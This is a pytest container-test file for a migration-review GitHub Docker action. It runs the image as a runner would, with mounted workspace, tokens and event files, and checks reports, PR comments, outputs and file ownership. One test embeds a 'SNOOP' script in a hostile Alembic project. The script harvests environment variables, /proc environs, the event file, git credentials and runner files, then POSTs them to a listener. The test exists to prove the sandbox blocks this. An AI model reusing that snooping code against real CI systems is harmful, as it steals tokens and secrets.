"""The action's image, built from the Dockerfile and run as GitHub runs a Docker action: the checkout
mounted at /github/workspace and owned by the runner's user, the event and the command files under
/github, INPUT_* and GITHUB_* in the environment, root inside.

Not part of the plain `pytest` run (it builds an image): `pytest -m container tests/container`, which
.ci/run does. MIGRATION_REVIEWER_IMAGE names an image already built; else tests/container/build_image.sh
builds one with podman.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from github_server import TOKEN, FakeGitHub, start
from gitrepo import git, make_repo
from migration_reviewer.renderers.comment import MARKER

pytestmark = pytest.mark.container

HERE = Path(__file__).parent
RUNNER_UID = 1001  # the runner's user on GitHub's hosted runners: it owns the checkout
PR = 7
RUNTIME_TOKEN = "runtime-secret-4c1f"
OIDC_TOKEN = "oidc-secret-9b2e"
EVENT_SECRET = "event-only-secret-77d1"  # only in the event file
EARLIER_OUTPUT = "earlier-step-output-secret-5e0a"  # what an earlier step left in the command files
BASE = {
    "db/migrations/001_customers.up.sql": "CREATE TABLE customers (id bigint PRIMARY KEY, name text);\n",
}
CHANGE = {
    "db/migrations/002_email.up.sql": "ALTER TABLE customers ADD COLUMN email text;\n",
    "db/migrations/003_broken.up.sql": "SELECT 1;\nALTER TABLE nope ADD COLUMN x int;\n",
}


@pytest.fixture(scope="session")
def image() -> str:
    build = HERE / "build_image.sh"
    exports = subprocess.run([build, "--env"], check=True, capture_output=True, text=True).stdout
    for name, value in re.findall(r"(\w+)=(\S+)", exports):
        os.environ[name] = value
    if tag := os.environ.get("MIGRATION_REVIEWER_IMAGE"):
        return tag
    built = subprocess.run([build], capture_output=True, text=True, timeout=900)
    assert built.returncode == 0, built.stderr[-3000:]
    return built.stdout.strip()


def podman(*args: str | Path, network: str = "none") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["podman", "run", "--rm", f"--network={network}", *map(str, args)],
        capture_output=True, text=True, timeout=600,
    )


class Runner:
    """The folders a runner mounts into a Docker action's container, owned by the runner's user."""

    def __init__(self, root: Path, repo: Path) -> None:
        self.workspace = repo
        self.base, self.head = git(repo, "rev-parse", "main"), git(repo, "rev-parse", "feature")
        self.home = root / "home"
        self.workflow = root / "workflow"
        self.commands = root / "file_commands"
        for folder in (self.home, self.workflow, self.commands):
            folder.mkdir()
        (self.commands / "set_output_1").write_text(f"earlier<<EOF\n{EARLIER_OUTPUT}\nEOF\n")
        (self.commands / "step_summary_1").write_text("")
        for folder in (root, repo):
            _chown_tree(folder, RUNNER_UID)

    def pull_request_event(self, repository: str) -> None:
        payload = {
            "number": PR,
            "repository": {"full_name": repository, "default_branch": "main"},
            "pull_request": {
                "number": PR,
                "body": EVENT_SECRET,
                "base": {"sha": self.base},
                "head": {"sha": self.head, "repo": {"full_name": repository}},
            },
        }
        (self.workflow / "event.json").write_text(json.dumps(payload))
        _chown_tree(self.workflow, RUNNER_UID)

    def run(self, image: str, api_url: str, inputs: dict[str, str]) -> subprocess.CompletedProcess[str]:
        """`github`, as the runner starts the action: its environment and mounts, the host's network."""
        environment = {
            "HOME": "/github/home",
            "CI": "true",
            "GITHUB_ACTIONS": "true",
            "GITHUB_WORKSPACE": "/github/workspace",
            "GITHUB_EVENT_NAME": "pull_request",
            "GITHUB_EVENT_PATH": "/github/workflow/event.json",
            "GITHUB_OUTPUT": "/github/file_commands/set_output_1",
            "GITHUB_STEP_SUMMARY": "/github/file_commands/step_summary_1",
            "GITHUB_REPOSITORY": "octo/shop",
            "GITHUB_API_URL": api_url,
            "GITHUB_TOKEN": TOKEN,
            "ACTIONS_RUNTIME_TOKEN": RUNTIME_TOKEN,
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": OIDC_TOKEN,
            "INPUT_GITHUB-TOKEN": TOKEN,
            **{f"INPUT_{name.upper()}": value for name, value in inputs.items()},
        }
        return podman(
            *(f"--env={name}={value}" for name, value in environment.items()),
            f"--volume={self.workspace}:/github/workspace",
            f"--volume={self.home}:/github/home",
            f"--volume={self.workflow}:/github/workflow",
            f"--volume={self.commands}:/github/file_commands",
            "--workdir=/github/workspace",
            image, "github",
            network="host",
        )

    @property
    def summary(self) -> str:
        return (self.commands / "step_summary_1").read_text()

    @property
    def outputs(self) -> dict[str, str]:
        text = (self.commands / "set_output_1").read_text()
        return {name: value for name, _, value in re.findall(r"^(\S+)<<(\S+)\n(.*?)\n\2$", text, re.M | re.S)}

    def not_the_owners(self) -> list[str]:
        """Whatever in the checkout does not belong to the runner's user."""
        paths = [self.workspace, *self.workspace.rglob("*")]
        return [str(p.relative_to(self.workspace)) for p in paths if p.lstat().st_uid != RUNNER_UID]


def _chown_tree(root: Path, uid: int) -> None:
    for path in (root, *root.rglob("*")):
        os.lchown(path, uid, uid)


@pytest.fixture
def github(httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> FakeGitHub:
    return start(httpserver, monkeypatch)


@pytest.fixture
def workdir(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path
    shutil.rmtree(tmp_path, ignore_errors=True)  # files the container left, whoever owns them


def test_demo_reviews_the_bundled_example_without_network(image: str) -> None:
    done = podman(image, "demo")
    assert done.returncode == 0, done.stderr  # a demonstration, not a gate
    assert "2 errors, 4 warnings" in done.stdout
    assert "Traceback" not in done.stderr


def test_review_of_a_mounted_checkout_owned_by_another_user(image: str, workdir: Path) -> None:
    repo = make_repo(workdir / "repo", BASE, CHANGE)
    _chown_tree(repo, RUNNER_UID)

    done = podman(f"--volume={repo}:/github/workspace", "--workdir=/github/workspace",
                  "--env=MIGRATION_REVIEWER_CACHE_DIR=/github/workspace/.cache", image,
                  "review", "--base", "main", "--head", "feature", "--format", "json")

    assert done.returncode == 1, done.stderr
    # The server started from the initialised folder the image holds: the review ran no initdb of its own.
    assert [p.name for p in (repo / ".cache").iterdir()] == ["bases"]
    report = json.loads(done.stdout)
    outcomes = {m["path"]: m["outcome"] for s in report["migration_sets"] for m in s["migrations"]}
    assert outcomes == {
        "db/migrations/002_email.up.sql": "applied",
        "db/migrations/003_broken.up.sql": "failed",
    }
    assert report["migration_sets"][0]["database"]["provider"] == "embedded"


def test_debians_postgresql_15_replays_contrib_and_postgis_extensions(image: str, workdir: Path) -> None:
    change = {
        "db/migrations/002_places.up.sql": (
            'CREATE EXTENSION IF NOT EXISTS "uuid-ossp";\n'
            "CREATE EXTENSION IF NOT EXISTS pgcrypto;\n"
            "CREATE EXTENSION IF NOT EXISTS postgis;\n"
            "CREATE TABLE places (id uuid PRIMARY KEY DEFAULT uuid_generate_v4(), digest bytea,"
            " location geometry(Point, 4326));\n"
        ),
    }
    repo = make_repo(workdir / "repo", BASE, change)
    _chown_tree(repo, RUNNER_UID)

    done = podman(
        f"--volume={repo}:/github/workspace", "--workdir=/github/workspace",
        "--env=MIGRATION_REVIEWER_REPLAY_ROLE=superuser",  # PostGIS is not a trusted extension
        image, "review", "--base", "main", "--head", "feature", "--format", "json",
        "--pg-bin-dir", "/usr/lib/postgresql/15/bin",
    )

    report = json.loads(done.stdout)
    [migration_set] = report["migration_sets"]
    assert migration_set["database"]["server_version"].startswith("15."), done.stderr
    assert [m["outcome"] for m in migration_set["migrations"]] == ["applied"], done.stdout
    added = {(c["kind"], c["name"] or c["table"]) for c in migration_set["schema_changes"]}
    expected = {("extension_added", "postgis"), ("extension_added", "uuid-ossp"), ("table_added", "places")}
    assert expected <= added


def test_a_pull_request_gets_one_comment_a_summary_and_outputs(
    image: str, workdir: Path, github: FakeGitHub
) -> None:
    runner = Runner(workdir, make_repo(workdir / "repo", BASE, CHANGE))
    runner.pull_request_event(github.repository)

    done = runner.run(image, github.api_url, {"fail-on": "error", "sarif-file": "out/review.sarif"})

    assert done.returncode == 1, done.stderr  # a migration fails: at least as severe as fail-on
    assert "Traceback" not in done.stderr
    [body] = github.bodies(PR)
    assert body.startswith(MARKER) and 'relation "nope" does not exist' in body
    assert "Migrations will cause trouble" in runner.summary
    report = json.loads((runner.workspace / "migration-review.json").read_text())
    assert runner.outputs == {
        "earlier": EARLIER_OUTPUT,
        "verdict": "fail",
        "findings-count": str(len(report["findings"])),
        "report-json": "migration-review.json",
    }
    assert (runner.workspace / "out" / "review.sarif").is_file()
    assert runner.not_the_owners() == []
    assert "::error file=db/migrations/003_broken.up.sql,line=2" in done.stdout


SNOOP = '''
import glob, json, os, urllib.request

def snoop(where, socket_dir=None):
    """Everything a pull request would like to send home: the environment, every process's, the event,
    the job's command files, the checkout's git credentials, the runner's home."""
    found = {"where": where, "uid": os.getuid(), "environ": dict(os.environ)}
    paths = ["/proc/1/environ", "/proc/self/../1/environ", *glob.glob("/proc/[0-9]*/environ"),
             os.environ.get("GITHUB_EVENT_PATH") or "/github/workflow/event.json",
             "/github/workflow/event.json", "/github/workspace/.git/config",
             "/github/file_commands/set_output_1", "/github/file_commands/step_summary_1",
             *glob.glob("/github/**", recursive=True), *glob.glob("/github/home/**", recursive=True)]
    for path in paths:
        try:
            with open(path, "rb") as f:
                found[path] = f.read().decode("latin-1")
        except OSError as exc:
            found[path] = "unreadable: " + str(exc.strerror)
    if socket_dir:  # the embedded server's folder: its data files belong to its own user
        try:
            found["data"] = os.listdir(os.path.join(socket_dir, "data"))
        except OSError as exc:
            found["data"] = "unreadable: " + str(exc.strerror)
    try:
        found["/github"] = os.listdir("/github")
    except OSError as exc:
        found["/github"] = "unreadable: " + str(exc.strerror)
    request = urllib.request.Request("LISTENER", data=json.dumps(found).encode(), method="POST")
    urllib.request.urlopen(request, timeout=20).read()
'''
ENV = """\
from alembic import context
from sqlalchemy import create_engine
{snoop}
snoop("env.py")
with create_engine(context.config.get_main_option("sqlalchemy.url")).connect() as connection:
    context.configure(connection=connection)
    with context.begin_transaction():
        context.run_migrations()
"""


def _revision(rev: str, down: str | None, upgrade: str, snoop: str = "") -> str:
    return (
        f"import sqlalchemy as sa\nfrom alembic import op\n{snoop}\n"
        f"revision = {rev!r}\ndown_revision = {down!r}\n\n\n"
        f"def upgrade():\n{upgrade}\n\n\ndef downgrade():\n    pass\n"
    )


@pytest.fixture
def listener() -> Iterator[tuple[HTTPServer, list[dict[str, Any]]]]:
    """Where the hostile project sends what it found."""
    received: list[dict[str, Any]] = []

    def keep(request: Request) -> Response:
        received.append(json.loads(request.get_data()))
        return Response("thanks")

    server = HTTPServer(host="127.0.0.1")
    server.expect_request("/loot", method="POST").respond_with_handler(keep)
    server.start()
    yield server, received
    server.stop()


def test_a_hostile_alembic_project_reaches_no_secret(
    image: str, workdir: Path, github: FakeGitHub, listener: tuple[HTTPServer, list[dict[str, Any]]]
) -> None:
    server, received = listener
    snoop = SNOOP.replace("LISTENER", server.url_for("/loot"))
    base = {
        "alembic.ini": "[alembic]\nscript_location = migrations\nsqlalchemy.url = postgresql://localhost/app\n",
        "migrations/env.py": ENV.format(snoop=snoop),
        "migrations/versions/r01.py": _revision(
            "r01", None, '    op.create_table("users", sa.Column("id", sa.BigInteger, primary_key=True))'
        ),
    }
    change = {
        "migrations/versions/r02.py": _revision(
            "r02", "r01", '    snoop("revision", op.get_bind().engine.url.query["host"])\n'
            '    op.add_column("users", sa.Column("email", sa.Text))',
            snoop,
        ),
    }
    repo = make_repo(workdir / "repo", base, change)
    # actions/checkout keeps the token in the checkout's git config unless told not to.
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    git(repo, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {basic}")
    runner = Runner(workdir, repo)
    runner.pull_request_event(github.repository)

    done = runner.run(image, github.api_url, {"fail-on": "never"})

    assert done.returncode == 0, done.stderr
    assert {loot["where"] for loot in received} == {"env.py", "revision"}  # it ran, and could call out
    assert {loot["uid"] for loot in received} == {65534}  # nobody; the server runs as postgres
    sent = json.dumps(received)
    for secret in (TOKEN, basic, RUNTIME_TOKEN, OIDC_TOKEN, EVENT_SECRET, EARLIER_OUTPUT):
        assert secret not in sent
    assert all(loot["/github"].startswith("unreadable") for loot in received)
    assert {loot["data"] for loot in received if "data" in loot} == {"unreadable: Permission denied"}
    # The review went on, and published with the token its own process kept.
    [body] = github.bodies(PR)
    assert "`email`" in body
    assert runner.not_the_owners() == []
